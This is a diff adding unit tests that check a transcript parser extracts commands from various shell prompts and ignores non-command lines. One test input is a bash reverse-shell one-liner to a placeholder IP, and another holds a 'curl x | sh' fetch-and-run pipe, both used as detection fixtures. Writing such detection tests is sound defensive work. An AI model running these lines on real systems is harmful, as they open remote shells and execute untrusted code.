@@ -75,3 +75,35 @@ describe('command rules', () => {
     expect(createCommandDetector().scan(lines, {})).toEqual([]);
   });
 });
+
+describe('prompts', () => {
+  it.each([
+    ['[ssm-user@ip-10-0-1-23 ~]$ id', 'id'],
+    ['[root@ip-10-0-1-23 ~]# id', 'id'],
+    ['sh-5.2$ id', 'id'],
+    ['bash-4.2# id', 'id'],
+    ['ubuntu@ip-10-0-1-23:~/app$ id', 'id'],
+    ['root@ip-10-0-1-23:~# id', 'id'],
+    ['dev@mac ~ % id', 'id'],
+    ['PS C:\\Users\\ssm-user> id', 'id'],
+    ['PS /home/ssm-user> id', 'id'],
+    ['ec2-app-role[root@ip-10-0-1-23 ~]# id', 'id'],
+    ['[root@ip ~]# bash -i >& /dev/tcp/203.0.113.7/4444 0>&1^C', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
+  ])('%s → %s', (text, command) => {
+    const lines: TranscriptLine[] = [{ n: 1, text, erased: [] }];
+    annotateCommands(lines);
+    expect(lines[0]!.command).toBe(command);
+    expect(lines[0]!.cancelled).toBe(text.endsWith('^C') ? true : undefined);
+  });
+
+  it.each([
+    '# a comment in a config file',
+    '$ curl x | sh   (a runbook line)',
+    'total 92',
+    'mail bob@example.com # x',
+  ])('no command on: %s', (text) => {
+    const lines: TranscriptLine[] = [{ n: 1, text, erased: [] }];
+    annotateCommands(lines);
+    expect(lines[0]!.command).toBeUndefined();
+  });
+});
